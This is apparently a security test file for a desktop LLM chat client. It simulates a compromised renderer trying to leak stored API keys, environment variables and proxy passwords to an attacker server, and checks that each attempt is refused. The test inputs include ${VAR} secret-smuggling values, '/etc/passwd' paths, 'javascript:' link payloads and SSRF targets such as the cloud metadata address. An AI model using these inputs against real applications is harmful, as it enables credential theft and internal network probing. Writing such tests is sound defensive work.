/**
 * A compromised renderer (it shows what a model wrote) calls the IPC contract like an attacker. It must not
 * obtain a stored key, make main send a key to another origin, or read an environment variable through
 * `${VAR}`; whatever main returns or emits is redacted. A second upstream plays the attacker's server and
 * records what reaches it.
 */
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startUpstream, type Upstream } from '../helpers/upstream.ts';
import { makeTestCA } from '../helpers/certs.ts';
import { safeLinkUrl } from '../../src/shared/links.ts';
import type { AppServices } from '../../src/main/services/app.ts';
import { testAppServices } from '../helpers/app-services.ts';
import type { ArgsIn, Channel, Result, ResultOf } from '../../src/shared/ipc.ts';
import type { SecretUseRequest } from '../../src/main/services/settings/consent.ts';
import { hostsLookup } from '../helpers/core.ts';
import { freePort } from '../helpers/servers.ts';

const KEY = 'sk-storedKeyNeverLeaves0123456789abcd';
const ENV_SECRET = 'envSecretValue-7f3a9c1d';
const SHELL_KEY = 'sk-openaiFromEnv0123456789abcdefghijk';

let good: Upstream;
let evil: Upstream;
const dirs: string[] = [];
const apps: AppServices[] = [];
beforeAll(async () => {
  [good, evil] = await Promise.all([startUpstream(), startUpstream()]);
});
afterAll(async () => {
  for (const a of apps) await a.close();
  await Promise.all([good?.stop(), evil?.stop()]);
  for (const d of dirs) rmSync(d, { recursive: true, force: true });
});

const emitted: unknown[] = [];
let dialogAnswer: string | null = null;
function app(env: Record<string, string> = {}): { svc: AppServices; dir: string } {
  const dir = mkdtempSync(join(tmpdir(), 'parley-untrusted-'));
  dirs.push(dir);
  const svc = testAppServices(dir, { env, chooseCaFile: async () => dialogAnswer });
  apps.push(svc);
  svc.attachWindow('w', (_e, p) => void emitted.push(p));
  svc.hub.ready('w');
  return { svc, dir };
}
const invoke = <C extends Channel>(svc: AppServices, channel: C, ...args: ArgsIn<C>): Promise<Result<ResultOf<C>>> => svc.invoke({ windowId: 'w' }, channel, args);
async function ok<C extends Channel>(svc: AppServices, channel: C, ...args: ArgsIn<C>): Promise<ResultOf<C>> {
  const r = await invoke(svc, channel, ...args);
  if (!r.ok) throw new Error(`${channel}: ${r.error.code}: ${r.error.message}`);
  return r.value;
}
const sawKey = (u: Upstream, key: string): boolean => u.requests.some((r) => JSON.stringify(r.headers).includes(key) || r.rawBody.includes(key) || r.url.includes(key));

async function withProvider(svc: AppServices): Promise<string> {
  const v = await ok(svc, 'providers:save', { name: 'Good', preset: 'custom', protocol: 'openai', baseUrl: `${good.url}/v1`, apiKey: KEY, models: ['test-model'], defaultModel: 'test-model' });
  await ok(svc, 'settings:set', { network: { proxy: { mode: 'none' } } });
  return v.providers[0]?.id ?? '';
}

describe('a compromised renderer', () => {
  it('cannot obtain a stored key: no channel returns it', async () => {
    const { svc } = app();
    const id = await withProvider(svc);
    const answers = [await invoke(svc, 'settings:get'), await invoke(svc, 'providers:save', { id, name: 'Good', preset: 'custom', protocol: 'openai', baseUrl: `${good.url}/v1` }), await invoke(svc, 'providers:detect'), await invoke(svc, 'doctor:run', { providerId: id })];
    for (const a of answers) expect(JSON.stringify(a)).not.toContain(KEY);
    expect(JSON.stringify(emitted)).not.toContain(KEY);
  });

  it('cannot make main send the key to another origin: moving the base URL drops the key, and a draft aimed elsewhere goes without it', async () => {
    const { svc } = app();
    const id = await withProvider(svc);
    // A draft (never saved) pointing the stored provider at the attacker: the model list goes without the key.
    await invoke(svc, 'providers:models', { id, name: 'Good', preset: 'custom', protocol: 'openai', baseUrl: `${evil.url}/v1` });
    expect(evil.requests.length).toBeGreaterThan(0);
    expect(sawKey(evil, KEY)).toBe(false);
    // Saving the move drops the key; chatting then sends none to the attacker.
    const view = await ok(svc, 'providers:save', { id, name: 'Good', preset: 'custom', protocol: 'openai', baseUrl: `${evil.url}/v1` });
    expect(view.providers[0]?.apiKeyMarker).toBeNull();
    const conv = await ok(svc, 'conversations:create');
    const sent = await ok(svc, 'chat:send', { conversationId: conv.id, text: 'hello' });
    await new Promise((r) => setTimeout(r, 300));
    expect(sent.requestId).toBeTruthy();
    expect(sawKey(evil, KEY)).toBe(false);
    // Moving back does not bring the key back: it is gone from the file.
    expect(readFileSync(svc.settings.path, 'utf8')).not.toContain(KEY);
  });

  it('a path or port change on the same origin keeps the key (only the origin binds it)', async () => {
    const { svc } = app();
    const id = await withProvider(svc);
    const view = await ok(svc, 'providers:save', { id, name: 'Good', preset: 'custom', protocol: 'openai', baseUrl: `${good.url}/other/v1` });
    expect(view.providers[0]?.apiKeyMarker).toBe('sk-…abcd (37 chars)');
    const other = new URL(good.url);
    other.port = String(Number(other.port) + 1);
    const moved = await ok(svc, 'providers:save', { id, name: 'Good', preset: 'custom', protocol: 'openai', baseUrl: `${other.origin}/v1` });
    expect(moved.providers[0]?.apiKeyMarker).toBeNull();
  });

  it('cannot read an environment variable through ${VAR}: names that do not fit the field are refused, and a known service key does not go to another origin', async () => {
    const { svc } = app({ SECRET_THING: ENV_SECRET, HOME_DIR_SECRET: ENV_SECRET, OPENAI_API_KEY: SHELL_KEY });
    const base = { name: 'X', preset: 'custom' as const, protocol: 'openai' as const };
    const refused = [
      await invoke(svc, 'providers:save', { ...base, baseUrl: `${evil.url}/v1`, apiKey: '${SECRET_THING}' }),
      await invoke(svc, 'providers:save', { ...base, baseUrl: `${evil.url}/v1?x=\${SECRET_THING}` }),
      await invoke(svc, 'providers:save', { ...base, baseUrl: `${evil.url}/v1`, models: ['${SECRET_THING}'] }),
      await invoke(svc, 'providers:save', { ...base, baseUrl: `${evil.url}/v1`, route: { mode: 'proxy', proxyUrl: 'http://${HOME_DIR_SECRET}@127.0.0.1:9' } }),
      await invoke(svc, 'providers:save', { ...base, baseUrl: `${evil.url}/v1`, apiKey: '${OPENAI_API_KEY}' }),
      await invoke(svc, 'settings:set', { network: { proxy: { mode: 'manual', url: 'http://${SECRET_THING}:1' } } }),
      await invoke(svc, 'settings:set', { network: { caFiles: ['${SECRET_THING}'] } }),
      await invoke(svc, 'settings:set', { defaults: { model: '${SECRET_THING}' } }),
      await invoke(svc, 'conversations:create', { model: '${SECRET_THING}' }),
    ];
    for (const r of refused) {
      expect(r.ok).toBe(false);
      expect(JSON.stringify(r)).not.toContain(ENV_SECRET);
      expect(JSON.stringify(r)).not.toContain(SHELL_KEY);
    }
    expect(sawKey(evil, ENV_SECRET)).toBe(false);
    expect(sawKey(evil, SHELL_KEY)).toBe(false);
    // The same key variable aimed at its own service's origin is accepted (not sent here: no such server).
    const own = await invoke(svc, 'providers:save', { ...base, preset: 'openai', baseUrl: 'https://api.openai.com/v1', apiKey: '${OPENAI_API_KEY}' });
    expect(own.ok).toBe(true);
    expect(JSON.stringify(own)).not.toContain(SHELL_KEY);
  });

  it('cannot probe the disk through CA file paths: a typed path is refused the same way whether it exists or not; one the user picked in the dialog is saved', async () => {
    const { svc, dir } = app();
    const pem = join(dir, 'corp-root.pem');
    writeFileSync(pem, (await makeTestCA(dir)).caCert);
    const refused = await Promise.all(['/etc/passwd', '/no/such/file.pem', '/dev/zero', pem].map((f) => invoke(svc, 'settings:set', { network: { caFiles: [f] } })));
    for (const r of refused) expect(r).toMatchObject({ ok: false, error: { code: 'config_invalid' } });
    // One answer for all: nothing tells an existing file from a missing one.
    expect(new Set(refused.map((r) => JSON.stringify(r).replaceAll(/"[^"]*\.pem"|\/etc\/passwd|\/dev\/zero|\/no\/such\/file\.pem/g, 'F'))).size).toBe(1);
    expect(existsSync(join(dir, 'settings.json'))).toBe(false);
    // Cancelled dialog: nothing.
    dialogAnswer = null;
    expect(await ok(svc, 'settings:pickCaFile')).toBeNull();
    // A picked file that is not a certificate: said plainly (the user chose it), nothing allowed.
    dialogAnswer = join(dir, 'notes.txt');
    writeFileSync(dialogAnswer, 'not a certificate');
    expect(await invoke(svc, 'settings:pickCaFile')).toMatchObject({ ok: false, error: { code: 'config_invalid' } });
    expect((await invoke(svc, 'settings:set', { network: { caFiles: [dialogAnswer] } })).ok).toBe(false);
    // A picked PEM file: allowed, saved, and later removable.
    dialogAnswer = pem;
    expect(await ok(svc, 'settings:pickCaFile')).toBe(pem);
    expect((await ok(svc, 'settings:set', { network: { caFiles: [pem] } })).settings.network?.caFiles).toEqual([pem]);
    expect(JSON.parse(readFileSync(join(dir, 'settings.json'), 'utf8')).network.caFiles).toEqual([pem]);
    expect((await ok(svc, 'settings:set', { network: { caFiles: [] } })).settings.network?.caFiles).toEqual([]);
    dialogAnswer = null;
  });

  it('a variable the user wrote into settings.json by hand works; an expanded value is never echoed in an error', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'parley-untrusted-file-'));
    dirs.push(dir);
    writeFileSync(join(dir, 'settings.json'), JSON.stringify({ version: 2, providers: [{ id: 'p', name: 'File', protocol: 'openai', baseUrl: '${WEIRD_SETTING}', apiKey: KEY, models: ['m'], defaultModel: 'm' }], defaults: { providerId: 'p', model: 'm' }, network: { proxy: { mode: 'none' } } }));
    const svc = testAppServices(dir, { env: { WEIRD_SETTING: `not a url ${ENV_SECRET}` } });
    apps.push(svc);
    svc.attachWindow('w', (_e, p) => void emitted.push(p));
    svc.hub.ready('w');
    const conv = await ok(svc, 'conversations:create');
    const sent = await ok(svc, 'chat:send', { conversationId: conv.id, text: 'hi' });
    await new Promise((r) => setTimeout(r, 300));
    const page = await ok(svc, 'conversations:open', conv.id);
    const answer = page.messages.at(-1);
    expect(answer?.status).toBe('failed');
    expect(answer?.error?.code).toBe('config_invalid');
    expect(JSON.stringify(page)).not.toContain(ENV_SECRET);
    expect(JSON.stringify(emitted)).not.toContain(ENV_SECRET);
    const report = await ok(svc, 'doctor:run');
    expect(JSON.stringify(report)).not.toContain(ENV_SECRET);
    expect(sent.requestId).toBeTruthy();
  });

  it('what a model writes reaches the window as written, except a configured secret it echoes', async () => {
    const { svc } = app();
    await withProvider(svc);
    const conv = await ok(svc, 'conversations:create');
    const example = 'sk-proj-EXAMPLE0123456789abcdefXYZ';
    good.behave({ kind: 'ok', text: `Keys look like ${example}; yours is ${KEY}.` });
    emitted.length = 0;
    const sent = await ok(svc, 'chat:send', { conversationId: conv.id, text: 'What does a key look like?' });
    for (let i = 0; i < 100 && !emitted.some((e) => (e as { type?: string; requestId?: string }).type === 'end' && (e as { requestId?: string }).requestId === sent.requestId); i++) await new Promise((r) => setTimeout(r, 20));
    const page = await ok(svc, 'conversations:open', conv.id);
    for (const seen of [JSON.stringify(emitted), JSON.stringify(page)]) {
      expect(seen).toContain(example);
      expect(seen).not.toContain(KEY);
    }
  });

  it('arguments out of bounds or of the wrong shape are refused before any handler runs', async () => {
    const { svc } = app();
    const huge = 'x'.repeat(1_000_001);
    const bad = [
      await svc.invoke({ windowId: 'w' }, 'chat:send', [{ conversationId: 'c', text: huge }]),
      await svc.invoke({ windowId: 'w' }, 'chat:send', [{ conversationId: '../../etc', text: 'x' }]),
      await svc.invoke({ windowId: 'w' }, 'conversations:search', ['q'.repeat(501)]),
      await svc.invoke({ windowId: 'w' }, 'providers:save', [{ name: 'x', preset: 'custom', protocol: 'openai', baseUrl: 'http://x', extra: 1 }]),
      await svc.invoke({ windowId: 'w' }, 'link:open', ['javascript:alert(1)']),
      await svc.invoke({ windowId: 'w' }, 'link:open', ['file:///etc/passwd']),
    ];
    for (const r of bad) expect(r.ok).toBe(false);
  });

  it('link:open follows the same allowlist as the message renderer: what cannot be a link there is not opened either', async () => {
    const { svc } = app();
    for (const url of ['mailto:', 'https://', 'data:text/html,<b>x</b>', 'blob:https://a.example/1', '//evil.example/x', ' javascript:alert(1)', 'java\nscript:alert(1)', 'vbscript:x']) {
      expect(safeLinkUrl(url)).toBeNull();
      expect(await invoke(svc, 'link:open', url)).toMatchObject({ ok: false, error: { code: 'config_invalid' } });
    }
  });
});

/** An app whose native confirmation answers `allow` and records what it asked. */
function consenting(allow: boolean, env: Record<string, string> = {}): { svc: AppServices; dir: string; asked: SecretUseRequest[]; answer(a: boolean): void } {
  const dir = mkdtempSync(join(tmpdir(), 'parley-consent-'));
  dirs.push(dir);
  const asked: SecretUseRequest[] = [];
  let answer = allow;
  const svc = testAppServices(dir, {
    env,
    // llm.corp.test is the user's plain-HTTP gateway (the good upstream, on loopback).
    lookup: hostsLookup({ 'llm.corp.test': '127.0.0.1' }),
    confirmSecretUse: async (r) => {
      asked.push(r);
      return answer;
    },
  });
  apps.push(svc);
  svc.attachWindow('w', (_e, p) => void emitted.push(p));
  svc.hub.ready('w');
  return { svc, dir, asked, answer: (a) => void (answer = a) };
}
const gateway = (): string => `http://llm.corp.test:${new URL(good.url).port}/v1`;
const evilHop = (): string => `http://127.0.0.1:${new URL(evil.url).port}`;
async function withGateway(svc: AppServices): Promise<string> {
  const v = await ok(svc, 'providers:save', { name: 'Gateway', preset: 'custom', protocol: 'openai', baseUrl: gateway(), apiKey: KEY, models: ['test-model'], defaultModel: 'test-model' });
  await ok(svc, 'settings:set', { network: { proxy: { mode: 'none' } } });
  return v.providers[0]?.id ?? '';
}

describe('a compromised renderer and the routes of a stored key (issue 15)', () => {
  it('cannot put a stored key of an http:// provider on its own proxy: the global proxy, the provider route and a model-list draft are refused unless the user confirms, and nothing reaches the proxy', async () => {
    const { svc, asked } = consenting(false);
    const id = await withGateway(svc);
    const before = evil.requests.length;
    const refused = [
      await invoke(svc, 'settings:set', { network: { proxy: { mode: 'manual', url: evilHop() } } }),
      await invoke(svc, 'settings:set', { network: { proxy: { mode: 'manual', url: `socks5h://127.0.0.1:${new URL(evil.url).port}` } } }),
      await invoke(svc, 'providers:save', { id, name: 'Gateway', preset: 'custom', protocol: 'openai', baseUrl: gateway(), route: { mode: 'proxy', proxyUrl: evilHop() } }),
      await invoke(svc, 'providers:models', { id, name: 'Gateway', preset: 'custom', protocol: 'openai', baseUrl: gateway(), route: { mode: 'proxy', proxyUrl: evilHop() } }),
      await invoke(svc, 'doctor:run', { draft: { id, name: 'Gateway', preset: 'custom', protocol: 'openai', baseUrl: gateway(), route: { mode: 'proxy', proxyUrl: evilHop() } } }),
    ];
    for (const r of refused) expect(r).toMatchObject({ ok: false, error: { code: 'config_invalid', key: 'secret_route_refused' } });
    expect(asked.map((a) => a.kind === 'route' && a.provider)).toEqual(['Gateway', 'Gateway', 'Gateway', 'Gateway', 'Gateway']);
    expect(asked.map((a) => a.kind === 'route' && a.hop)).toEqual([evilHop(), `socks5h://127.0.0.1:${new URL(evil.url).port}`, evilHop(), evilHop(), evilHop()]);
    // Nothing was saved or sent: the chat still goes straight to the gateway, with the key.
    const conv = await ok(svc, 'conversations:create');
    const sent = await ok(svc, 'chat:send', { conversationId: conv.id, text: 'hello' });
    await new Promise((r) => setTimeout(r, 300));
    expect(sent.requestId).toBeTruthy();
    expect(evil.requests.length).toBe(before);
    expect(good.requests.some((r) => r.headers.authorization === `Bearer ${KEY}`)).toBe(true);
    expect(JSON.parse(readFileSync(svc.settings.path, 'utf8')).network.proxy.mode).toBe('none');
  });

  it('adding <-loopback> to the bypass list puts a provider on 127.0.0.1 behind the proxy: refused without the user', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'parley-consent-file-'));
    dirs.push(dir);
    // The user's own proxy, written by hand: loopback goes around it.
    writeFileSync(join(dir, 'settings.json'), JSON.stringify({ version: 2, providers: [{ id: 'p', name: 'Local', protocol: 'openai', baseUrl: `${good.url}/v1`, apiKey: KEY, models: ['m'], defaultModel: 'm' }], defaults: { providerId: 'p', model: 'm' }, network: { proxy: { mode: 'manual', url: evilHop() } } }));
    const asked: SecretUseRequest[] = [];
    const svc = testAppServices(dir, { confirmSecretUse: async (r) => (asked.push(r), false) });
    apps.push(svc);
    const before = evil.requests.length;
    const r = await invoke(svc, 'settings:set', { network: { proxy: { mode: 'manual', url: evilHop(), bypass: '<-loopback>' } } });
    expect(r).toMatchObject({ ok: false, error: { key: 'secret_route_refused' } });
    expect(asked).toEqual([{ kind: 'route', provider: 'Local', origin: new URL(good.url).origin, hop: evilHop() }]);
    await invoke(svc, 'providers:models', 'p');
    expect(evil.requests.length).toBe(before);
  });

  it('with the user\'s yes the key goes through the proxy they named, and the answer is remembered; an https:// provider is never asked about (the proxy sees only the tunnel)', async () => {
    const { svc, asked } = consenting(true);
    const id = await withGateway(svc);
    await ok(svc, 'providers:save', { name: 'Tls', preset: 'custom', protocol: 'openai', baseUrl: 'https://api.tls.test/v1', apiKey: 'sk-otherKey0123456789abcdefghijklmno' });
    await ok(svc, 'settings:set', { network: { proxy: { mode: 'manual', url: evilHop() } } });
    expect(asked).toEqual([{ kind: 'route', provider: 'Gateway', origin: `http://llm.corp.test:${new URL(good.url).port}`, hop: evilHop() }]);
    await ok(svc, 'providers:models', id);
    expect(sawKey(evil, KEY)).toBe(true);
    // Asked once: the same route again is not asked about.
    await ok(svc, 'settings:set', { network: { proxy: { mode: 'none' } } });
    await ok(svc, 'settings:set', { network: { proxy: { mode: 'manual', url: evilHop() } } });
    expect(asked).toHaveLength(1);
  });
});

describe('a compromised renderer and the redactor (issue 15)', () => {
  it('hundreds of keys passed by the window do not slow main down, and the configured key stays redacted', async () => {
    const { svc, dir } = app();
    await withProvider(svc);
    await ok(svc, 'settings:set', { network: { retries: 0 } });
    // A closed port on loopback: each model list fails at once, after its draft key was learned.
    const closed = `http://127.0.0.1:${new URL(evil.url).port}`;
    await evil.stop();
    const timings: number[] = [];
    for (let i = 0; i < 400; i++) {
      const t0 = performance.now();
      await invoke(svc, 'providers:models', { name: 'X', preset: 'custom', protocol: 'openai', baseUrl: `${closed}/v1`, apiKey: `window-key-${i}-${'k'.repeat(4000)}` });
      timings.push(performance.now() - t0);
    }
    evil = await startUpstream();
    // The last calls are as quick as the first ones (each used to rebuild a matcher of every key seen).
    const slowest = Math.max(...timings.slice(-50));
    expect(slowest).toBeLessThan(250);
    // The stored key is still replaced in what main logs.
    await ok(svc, 'log:write', { level: 'warn', message: `renderer: pasted ${KEY} somewhere` });
    const logs = readdirSync(join(dir, 'logs')).map((f) => readFileSync(join(dir, 'logs', f), 'utf8')).join('\n');
    expect(logs).toContain('renderer: pasted');
    expect(logs).not.toContain(KEY);
  }, 120_000);
});

describe('a compromised renderer and the log (issue 15)', () => {
  const logText = (dir: string): string => readdirSync(join(dir, 'logs')).map((f) => readFileSync(join(dir, 'logs', f), 'utf8')).join('\n');
  it('log:write: 100 MB of data is refused at once; 700 lines in a burst are cut with one counted notice, and the log history stays', async () => {
    const { svc, dir } = app();
    svc.logger.scope('storage').info('marker: written before the flood');
    const blob = 'x'.repeat(100 * 1024 * 1024);
    const t0 = performance.now();
    const big = await invoke(svc, 'log:write', { level: 'info', message: 'big', data: { blob } });
    expect(performance.now() - t0).toBeLessThan(500);
    expect(big).toMatchObject({ ok: false, error: { code: 'config_invalid' } });
    // A flood of the largest lines the contract takes.
    const data = { text: 'y'.repeat(15 * 1024) };
    const answers = await Promise.all(Array.from({ length: 700 }, (_, i) => invoke(svc, 'log:write', { level: 'error', message: `flood ${i} ${'z'.repeat(3900)}`, data })));
    expect(answers.every((a) => a.ok)).toBe(true);
    await new Promise((r) => setTimeout(r, 1300));
    const text = logText(dir);
    expect(text).toContain('marker: written before the flood');
    const written = text.match(/flood \d+ /g) ?? [];
    expect(written.length).toBeGreaterThan(50);
    expect(written.length).toBeLessThan(200);
    const notice = /renderer log lines dropped[^\n]*"dropped":(\d+)/.exec(text);
    expect(Number(notice?.[1])).toBe(700 - written.length);
    // Another window has its own allowance.
    await svc.invoke({ windowId: 'other' }, 'log:write', [{ level: 'info', message: 'from another window' }]);
    expect(logText(dir)).toContain('from another window');
  });
});

describe('a compromised renderer and images (issue 15)', () => {
  /** The error with its host taken out: what would tell one address or port from another. */
  const shape = (r: Result<string>, host: string): string => JSON.stringify(r).replaceAll(host, 'H');

  it('image:load refuses loopback, private and link-local addresses, and names that resolve there, without connecting: an open port and a closed one answer the same', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'parley-image-'));
    dirs.push(dir);
    const svc = testAppServices(dir, { lookup: hostsLookup({ 'local.test': '127.0.0.1', 'intranet.test': '10.1.2.3', 'metadata.test': '169.254.169.254', 'v6.test': '::1' }) });
    apps.push(svc);
    const open = new URL(good.url).port;
    const closed = String(await freePort());
    const before = good.requests.length;
    const urls = [
      `http://127.0.0.1:${open}/a.png`, `http://127.0.0.1:${closed}/a.png`, `http://[::1]:${open}/a.png`, `http://[::ffff:127.0.0.1]:${open}/a.png`,
      `http://2130706433:${open}/a.png`, `http://local.test:${open}/a.png`, `http://local.test:${closed}/a.png`, 'http://intranet.test/a.png',
      'http://metadata.test/latest/meta-data/', 'http://v6.test/a.png', 'http://10.0.0.1/a.png', 'http://192.168.1.1/a.png', 'http://[fd00::1]/a.png', 'http://no-such-name.test/a.png',
    ];
    const answers = await Promise.all(urls.map((u) => invoke(svc, 'image:load', u)));
    for (const [i, r] of answers.entries()) expect(r, urls[i]).toMatchObject({ ok: false, error: { code: 'config_invalid', key: 'image_not_public' } });
    expect(new Set(answers.map((r, i) => shape(r, new URL(urls[i] as string).host))).size).toBe(1);
    expect(good.requests.length).toBe(before);
  });

  it('what a server answers (a status, an error page) does not come back: one error, the same as for a proxy that does not answer', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'parley-image-'));
    dirs.push(dir);
    // The user's proxy, written by hand; the image host's name resolves to a public address (never contacted: the proxy is asked).
    const proxyPort = new URL(good.url).port;
    writeFileSync(join(dir, 'settings.json'), JSON.stringify({ version: 2, providers: [], network: { proxy: { mode: 'manual', url: `http://127.0.0.1:${proxyPort}` }, retries: 0 } }));
    const svc = testAppServices(dir, { lookup: hostsLookup({ 'img.public.test': '93.184.216.34' }) });
    apps.push(svc);
    const served = await invoke(svc, 'image:load', 'http://img.public.test/secret-dashboard.png');
    expect(good.requests.some((q) => q.url.includes('secret-dashboard'))).toBe(true);
    expect(JSON.stringify(served)).not.toMatch(/404|Unknown path|unknown_url/);
    await ok(svc, 'settings:set', { network: { proxy: { mode: 'manual', url: `http://127.0.0.1:${await freePort()}` } } });
    const unanswered = await invoke(svc, 'image:load', 'http://img.public.test/secret-dashboard.png');
    expect(served).toMatchObject({ ok: false, error: { key: 'image_failed' } });
    expect(JSON.stringify(unanswered)).toBe(JSON.stringify(served));
  });
});

describe('a compromised renderer and a stored proxy password (issue 15)', () => {
  it('the ******** placeholder keeps the password only for the same scheme, host, port and user: not a neighbour port, not http:// for https://', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'parley-proxy-pw-'));
    dirs.push(dir);
    const PW = 'cntlmPassw0rd-4b1e';
    const stored = `https://u:${PW}@127.0.0.1:3128`;
    writeFileSync(join(dir, 'settings.json'), JSON.stringify({ version: 2, providers: [], network: { proxy: { mode: 'manual', url: stored } } }));
    const svc = testAppServices(dir);
    apps.push(svc);
    for (const url of ['https://u:********@127.0.0.1:3129', 'http://u:********@127.0.0.1:3128', 'socks5h://u:********@127.0.0.1:3128']) {
      const r = await invoke(svc, 'settings:set', { network: { proxy: { mode: 'manual', url } } });
      expect(r).toMatchObject({ ok: false, error: { code: 'config_invalid', field: 'proxyUrl' } });
      expect(JSON.stringify(r)).not.toContain(PW);
    }
    expect(JSON.parse(readFileSync(join(dir, 'settings.json'), 'utf8')).network.proxy.url).toBe(stored);
    // The same proxy keeps it.
    expect(await ok(svc, 'settings:set', { network: { proxy: { mode: 'manual', url: 'https://u:********@127.0.0.1:3128' } } })).toBeTruthy();
    expect(JSON.parse(readFileSync(join(dir, 'settings.json'), 'utf8')).network.proxy.url).toBe(stored);
  });
});

describe('a compromised renderer and environment variables (issue 15)', () => {
  const GH = 'ghp_githubTokenFromBashrc0123456789abcdef';
  const DB = 'postgres://app:dbPassw0rd-9f2c@db.internal:5432/app';
  it('a ${VAR} from the window goes to an origin only with the user\'s yes, naming the variable and the origin; remembered; a preset\'s own variable to its own host needs none', async () => {
    const { svc, asked, answer } = consenting(false, { GITHUB_TOKEN: GH, DATABASE_URL: DB, HF_TOKEN: GH });
    const base = { name: 'X', preset: 'custom' as const, protocol: 'openai' as const };
    const refused = [
      await invoke(svc, 'providers:models', { ...base, baseUrl: `${evil.url}/v1`, apiKey: '${GITHUB_TOKEN}' }),
      await invoke(svc, 'providers:models', { ...base, baseUrl: `${evil.url}/v1?u=\${DATABASE_URL}` }),
      await invoke(svc, 'providers:save', { ...base, baseUrl: `${evil.url}/v1`, apiKey: '${HF_TOKEN}' }),
    ];
    for (const r of refused) {
      expect(r).toMatchObject({ ok: false, error: { code: 'config_invalid', key: 'secret_var_refused' } });
      expect(JSON.stringify(r)).not.toContain(GH);
    }
    expect(asked).toEqual([
      { kind: 'variable', name: 'GITHUB_TOKEN', origin: evil.url.replace(/\/$/, '') },
      { kind: 'variable', name: 'DATABASE_URL', origin: evil.url.replace(/\/$/, '') },
      { kind: 'variable', name: 'HF_TOKEN', origin: evil.url.replace(/\/$/, '') },
    ]);
    expect(sawKey(evil, GH)).toBe(false);
    expect(sawKey(evil, 'dbPassw0rd')).toBe(false);
    expect((await ok(svc, 'settings:get')).providers).toHaveLength(0);
    // The user says yes: sent, and not asked again.
    answer(true);
    await invoke(svc, 'providers:models', { ...base, baseUrl: `${evil.url}/v1`, apiKey: '${GITHUB_TOKEN}' });
    expect(sawKey(evil, GH)).toBe(true);
    await invoke(svc, 'providers:models', { ...base, baseUrl: `${evil.url}/v1`, apiKey: '${GITHUB_TOKEN}' });
    expect(asked).toHaveLength(4);
    // A preset's own variable to its own host: no question.
    const own = await invoke(svc, 'providers:save', { ...base, preset: 'openai', baseUrl: 'https://api.openai.com/v1', apiKey: '${OPENAI_API_KEY}' });
    expect(own.ok).toBe(true);
    expect(asked).toHaveLength(4);
  });

  it('a ${VAR} the user wrote into settings.json, sent back unchanged by the window, is not asked about', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'parley-consent-file-'));
    dirs.push(dir);
    writeFileSync(join(dir, 'settings.json'), JSON.stringify({ version: 2, providers: [{ id: 'p', name: 'Mine', protocol: 'openai', baseUrl: `${good.url}/v1`, apiKey: '${GITHUB_TOKEN}', models: ['m'], defaultModel: 'm' }], defaults: { providerId: 'p', model: 'm' }, network: { proxy: { mode: 'none' } } }));
    const asked: SecretUseRequest[] = [];
    const svc = testAppServices(dir, { env: { GITHUB_TOKEN: GH }, confirmSecretUse: async (r) => (asked.push(r), false) });
    apps.push(svc);
    expect((await invoke(svc, 'providers:save', { id: 'p', name: 'Mine renamed', preset: 'custom', protocol: 'openai', baseUrl: `${good.url}/v1`, apiKey: '${GITHUB_TOKEN}' })).ok).toBe(true);
    expect(asked).toEqual([]);
    // Sent to another origin, it is asked about (and refused here).
    expect(await invoke(svc, 'providers:save', { id: 'p', name: 'Mine', preset: 'custom', protocol: 'openai', baseUrl: `${evil.url}/v1`, apiKey: '${GITHUB_TOKEN}' })).toMatchObject({ ok: false, error: { key: 'secret_var_refused' } });
    expect(asked).toEqual([{ kind: 'variable', name: 'GITHUB_TOKEN', origin: evil.url.replace(/\/$/, '') }]);
  });
});
